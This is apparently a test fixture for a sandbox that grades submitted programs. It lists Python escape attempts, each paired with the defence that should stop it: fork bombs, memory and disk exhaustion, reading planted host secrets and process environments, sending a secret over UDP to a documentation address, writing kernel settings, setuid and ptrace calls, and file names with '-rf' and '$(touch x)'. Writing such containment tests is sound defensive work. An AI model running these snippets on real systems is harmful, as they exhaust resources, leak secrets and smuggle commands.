import type { LimitName } from '../../src/domain/grading/check.ts';
import type { Limits } from '../../src/domain/grading/limits.ts';

/** A name that nobody else uses: processes, files and sockets that got out are found by it. */
export const MARK = `cupel-escape-${process.pid}`;

/** What is planted on the host for programs to go for; the names are variables of their code. */
export interface Planted {
  /**
   * Text that stands in a file and in another answer's workspace; in the environment of the harness after
   * `environment-`.
   */
  SECRET: string;
  SECRET_FILE: string;
  OTHER_WORKSPACE: string;
  /** A port of the host's loopback, and an abstract socket, that somebody listens on. */
  PORT: number;
  ABSTRACT: string;
  /** A process of the host. */
  VICTIM: number;
  MARK: string;
}

/** A way out that a program tries. */
export interface Escape {
  /** What it tries, as the end of the sentence "A program that …". */
  name: string;
  /** What stops it. */
  stoppedBy: string;
  /** Body of a Python function: what it returns is true when the program got out. An OSError is being stopped. */
  code: string;
  limits?: Partial<Limits>;
  /** The limit that ends it, where one does. */
  limit?: LimitName;
}

const call = (x64: number, arm64: number, ...values: readonly (number | string)[]): string =>
  `return syscall(${[`{"x86_64": ${x64}, "aarch64": ${arm64}}`, ...values].join(', ')}) >= 0`;

const filter = 'the seccomp filter';
const network = 'the network namespace';
const processes = 'the process namespace';
const readOnly = 'read-only mounts';
const unseen = 'only what is mounted is there';
const rights = 'an ordinary identity without capabilities';

export const escapes: readonly Escape[] = [
  // More than its share.
  {
    name: 'forks 300 times',
    stoppedBy: 'the limit on processes',
    limit: 'processes',
    limits: { processes: 64 },
    code: 'for _ in range(300):\n    if os.fork() == 0:\n        time.sleep(2)\n        os._exit(0)\nreturn True',
  },
  {
    name: 'forks for ever',
    stoppedBy: 'the limit on processes',
    limit: 'processes',
    limits: { processes: 64 },
    code: 'while True:\n    if os.fork() == 0:\n        time.sleep(1)',
  },
  {
    name: 'takes 8 GB of memory',
    stoppedBy: 'the limit on data',
    limit: 'memory',
    code: 'return len(bytearray(8 << 30)) > 0',
  },
  {
    name: 'takes 8 GB of memory in twenty processes',
    stoppedBy: 'the watcher of the tree',
    limit: 'memory',
    code: 'for _ in range(20):\n    if os.fork() == 0:\n        kept = bytearray(b"x") * (400 << 20)\n        time.sleep(30)\ntime.sleep(30)\nreturn True',
  },
  {
    name: 'takes 8 GB of shared memory',
    stoppedBy: 'the watcher of the tree',
    limit: 'memory',
    code: 'shared = mmap.mmap(-1, 8 << 30)\nfor at in range(0, 8 << 30, 4096):\n    shared[at] = 1\nreturn True',
  },
  {
    name: 'fills /dev/shm',
    stoppedBy: 'the size of /dev/shm',
    limit: 'disk',
    code: 'for number in range(100):\n    open(f"/dev/shm/{number}", "wb").write(bytes(10 << 20))\nreturn True',
  },
  { name: 'hides memory in segments of System V', stoppedBy: filter, code: call(29, 194, 0, 50 << 20, 0o1600) },
  { name: 'hides memory in files that have no name', stoppedBy: filter, code: 'return os.memfd_create("hidden") >= 0' },
  { name: 'hides memory in files that even the kernel does not show', stoppedBy: filter, code: call(447, 447, 0) },
  { name: 'fills /dev', stoppedBy: readOnly, code: 'open("/dev/full-of-it", "wb").write(bytes(1 << 20))\nreturn True' },
  {
    name: 'fills the workspace',
    stoppedBy: 'the size of /w',
    limit: 'disk',
    limits: { diskMiB: 32 },
    code: 'for number in range(100):\n    open(f"/w/{number}", "wb").write(bytes(1 << 20))\nreturn True',
  },
  {
    name: 'fills the folder of results',
    stoppedBy: 'the watcher of /out',
    limit: 'disk',
    limits: { diskMiB: 32 },
    code: 'for number in range(100):\n    open(f"/out/{number}", "wb").write(bytes(1 << 20))\ntime.sleep(30)\nreturn True',
  },
  {
    name: 'fills the folder of results with empty files',
    stoppedBy: 'the watcher of /out',
    limit: 'disk',
    limits: { diskMiB: 32 },
    code: 'for number in range(20000):\n    open(f"/out/{number}", "wb").close()\ntime.sleep(30)\nreturn True',
  },
  {
    name: 'makes a file of a terabyte that takes no room',
    stoppedBy: 'the limit on the size of a file',
    code: 'with open("/out/large", "wb") as file:\n    file.truncate(1 << 40)\nreturn True',
  },
  {
    name: 'prints 1 GB',
    stoppedBy: 'the limit on output',
    limit: 'output',
    code: 'for _ in range(1 << 14):\n    os.write(1, (b"x" * 1023 + b"\\n") * 64)\nreturn True',
  },
  {
    name: 'prints 1 GB without a newline',
    stoppedBy: 'the limit on output',
    limit: 'output',
    code: 'for _ in range(1 << 14):\n    os.write(2, bytes(1 << 16))\nreturn True',
  },
  {
    name: 'prints 5 MB of noise',
    stoppedBy: 'what is kept is shortened, and commands of terminals are taken out',
    code: 'os.write(2, os.urandom(5_000_000))\nreturn False',
  },

  // What is kept from it.
  { name: "reads a file of the host's", stoppedBy: unseen, code: 'return SECRET in open(SECRET_FILE).read()' },
  {
    name: "reads another answer's workspace",
    stoppedBy: unseen,
    code: 'places = [OTHER_WORKSPACE, "/src/..", "/proc/1/root" + OTHER_WORKSPACE, "/proc/1/cwd/..", "/tmp", "/var/tmp", "/out/.."]\nreturn any(SECRET in open(os.path.join(folder, name), errors="replace").read() for place in places for folder, _, names in os.walk(place) for name in names if name == "secret.txt")',
  },
  {
    name: "reads the harness's environment",
    stoppedBy: 'a clean environment, from bubblewrap on',
    code: 'secret = "-".join(["environment", SECRET])\nreturn secret in str(os.environ) or any(secret.encode() in open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"))',
  },
  {
    name: 'uses what the harness has open',
    stoppedBy: 'descriptors that are inherited are covered',
    code: 'return any(fd > 2 and os.readlink(f"/proc/self/fd/{fd}") not in ("/dev/null", f"/proc/{os.getpid()}/fd") for fd in map(int, os.listdir("/proc/self/fd")) if os.path.lexists(f"/proc/self/fd/{fd}"))',
  },
  {
    name: "looks for the host's processes in /proc",
    stoppedBy: processes,
    code: 'return any(MARK.encode() in open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/cmdline") if path != f"/proc/{os.getpid()}/cmdline" and path != "/proc/1/cmdline")',
  },
  {
    name: 'connects to a port of the host',
    stoppedBy: network,
    code: 'return socket.create_connection(("127.0.0.1", PORT), 2) is not None',
  },
  {
    name: 'connects to an abstract socket of the host',
    stoppedBy: network,
    code: 'client = socket.socket(socket.AF_UNIX)\nclient.connect("\\0" + ABSTRACT)\nreturn True',
  },
  { name: 'asks for a name', stoppedBy: network, code: 'return bool(socket.getaddrinfo("example.com", 80))' },
  {
    name: 'sends a name to a server by itself',
    stoppedBy: network,
    code: 'return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(SECRET.encode(), ("192.0.2.1", 53)) > 0',
  },
  {
    name: 'makes a socket to the host of a virtual machine',
    stoppedBy: filter,
    code: 'return socket.socket(40, socket.SOCK_STREAM) is not None',
  },
  {
    name: 'makes a raw socket',
    stoppedBy: rights,
    code: 'return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) is not None',
  },
  {
    name: 'types into a terminal',
    stoppedBy: 'a session without a terminal',
    code: 'return os.open("/dev/tty", os.O_RDWR) >= 0',
  },

  // What it may not change.
  {
    name: 'writes into a layer of packages',
    stoppedBy: readOnly,
    code: 'open(f"/layer/{MARK}", "w").close()\nreturn True',
  },
  {
    name: 'changes a file of a layer, or its mode',
    stoppedBy: readOnly,
    code: 'try:\n    os.chmod("/layer/package.js", 0o777)\nexcept OSError:\n    open("/layer/package.js", "w").close()\nreturn True',
  },
  {
    name: 'writes into the system',
    stoppedBy: readOnly,
    code: 'for folder in ("/", "/usr", "/usr/bin", "/etc", "/src", "/proc"):\n    try:\n        open(f"{folder}/{MARK}", "w").close()\n        return True\n    except OSError:\n        continue',
  },
  {
    name: 'changes settings of the kernel',
    stoppedBy: rights,
    code: 'for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory"):\n    try:\n        open(path, "w").write("x")\n        return True\n    except OSError:\n        continue',
  },
  {
    name: 'makes a device',
    stoppedBy: rights,
    code: 'os.mknod("/out/disk", stat.S_IFBLK | 0o666, os.makedev(8, 0))\nreturn True',
  },
  {
    name: 'makes a namespace for itself',
    stoppedBy: filter,
    code: `${call(272, 97, 0x1000_0000)} or ${call(435, 435, 0, 0).slice('return '.length)}`,
  },
  { name: 'mounts something', stoppedBy: filter, code: call(165, 40, 'b"none"', 'b"/w"', 'b"tmpfs"', 0, 0) },
  { name: 'becomes root', stoppedBy: rights, code: 'os.setuid(0)\nreturn True' },
  {
    name: 'starts a program that makes root of everybody',
    stoppedBy: 'no new privileges',
    code: 'status = open("/proc/self/status").read()\nreturn "NoNewPrivs:\\t1" not in status or "CapEff:\\t0000000000000000" not in status',
  },
  { name: 'changes its root folder', stoppedBy: rights, code: 'os.chroot("/w")\nreturn True' },
  { name: 'traces a process', stoppedBy: filter, code: call(101, 117, 16, 1, 0, 0) },
  { name: "reads a process's memory", stoppedBy: filter, code: call(310, 270, 1, 0, 0, 0, 0, 0) },
  { name: 'loads a program into the kernel', stoppedBy: filter, code: call(321, 280, 0, 0, 0) },
  { name: 'goes around system calls by a ring', stoppedBy: filter, code: call(425, 425, 8, 0) },
  {
    name: "adds a key to the kernel's ring",
    stoppedBy: filter,
    code: call(248, 217, 'b"user"', 'b"name"', 'b"secret"', 6, -3),
  },
  { name: "ends a process of the host's", stoppedBy: processes, code: 'os.kill(VICTIM, 9)\nreturn True' },
  { name: 'ends every process that it can', stoppedBy: processes, code: 'os.kill(-1, 15)\nreturn False' },

  // What it may not leave behind.
  {
    name: 'leaves a daemon behind',
    stoppedBy: processes,
    code: 'if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp("sleep", [MARK, "98765"])\n    os._exit(0)\ntime.sleep(0.2)\nreturn False',
  },
  {
    name: 'leaves a daemon that no signal ends',
    stoppedBy: processes,
    code: 'import signal\nif os.fork() == 0:\n    os.setsid()\n    for number in range(1, 32):\n        if number not in (9, 19):\n            signal.signal(number, signal.SIG_IGN)\n    os.execvp("sleep", [MARK, "98765"])\ntime.sleep(0.2)\nreturn False',
  },
  {
    name: 'leaves a listening port and an abstract socket behind',
    stoppedBy: network,
    code: 'server = socket.create_server(("0.0.0.0", 0))\nabstract = socket.socket(socket.AF_UNIX)\nabstract.bind("\\0" + MARK)\nabstract.listen()\nif os.fork() == 0:\n    os.execvp("sleep", [MARK, "98765"])\ntime.sleep(0.2)\nreturn False',
  },
  {
    name: 'leaves a link in place of its report',
    stoppedBy: 'links are not followed',
    code: 'os.symlink(SECRET_FILE, "/out/report.ndjson")\nreturn False',
  },
  {
    name: 'leaves a link in place of a folder of results',
    stoppedBy: 'links are not followed',
    code: 'os.symlink(os.path.dirname(SECRET_FILE), "/out/coverage")\nreturn False',
  },
  {
    name: 'leaves a second name of a file in place of its report',
    stoppedBy: 'mounts of their own',
    code: 'os.link("/layer/package.js", "/out/report.ndjson")\nreturn True',
  },
  {
    name: 'leaves a pipe in place of its report, on which a reader waits',
    stoppedBy: 'only ordinary files are read',
    code: 'os.mkfifo("/out/report.ndjson")\nreturn False',
  },
  {
    name: 'leaves folders that nobody may enter',
    stoppedBy: 'removal makes them enterable',
    limit: 'disk',
    code: 'os.makedirs("/out/closed/inner")\nopen("/out/closed/inner/file", "w").close()\nos.chmod("/out/closed/inner", 0)\nos.chmod("/out/closed", 0)\nreturn False',
  },
  {
    name: 'leaves a path of 4,000 characters',
    stoppedBy: 'removal goes step by step',
    limits: { diskMiB: 512 },
    limit: 'disk',
    code: 'os.chdir("/out")\nfor _ in range(20):\n    os.mkdir("d" * 200)\n    os.chdir("d" * 200)\nopen("f" * 200, "w").close()\nreturn False',
  },
  {
    name: 'leaves folders that are nested 3,000 deep',
    stoppedBy: 'removal goes step by step',
    limits: { diskMiB: 512 },
    limit: 'disk',
    code: 'os.chdir("/out")\nfor _ in range(3000):\n    os.mkdir("d")\n    os.chdir("d")\nreturn False',
  },
  {
    name: 'leaves files whose names hold a newline and commands of terminals',
    stoppedBy: 'names are never looked at',
    code: 'for name in ("report\\n.ndjson", "\\x1b[2J", "-rf", "$(touch x)", "\\udcff"):\n    open("/out/" + name, "w").close()\nreturn False',
  },
];

/** The program that tries an escape: prints `escaped` or `held`. */
export function programOf(escape: Escape, planted: Planted): string {
  const imports = 'import ctypes, glob, mmap, os, platform, socket, stat, sys, time';
  const names = Object.entries(planted).map(([name, value]) => `${name} = ${JSON.stringify(value)}`);
  const syscall =
    'libc = ctypes.CDLL(None, use_errno=True)\ndef syscall(numbers, *values):\n    return libc.syscall(numbers[platform.machine()], *values)';
  const body = `def attempt():\n${escape.code
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n')}`;
  // what a limit stops is to be seen in how the program ends
  const caught = escape.limit === undefined ? 'OSError' : '()';
  return [
    imports,
    ...names,
    syscall,
    body,
    `try:\n    print("escaped" if attempt() else "held", flush=True)\nexcept ${caught}:\n    print("held", flush=True)`,
  ].join('\n');
}
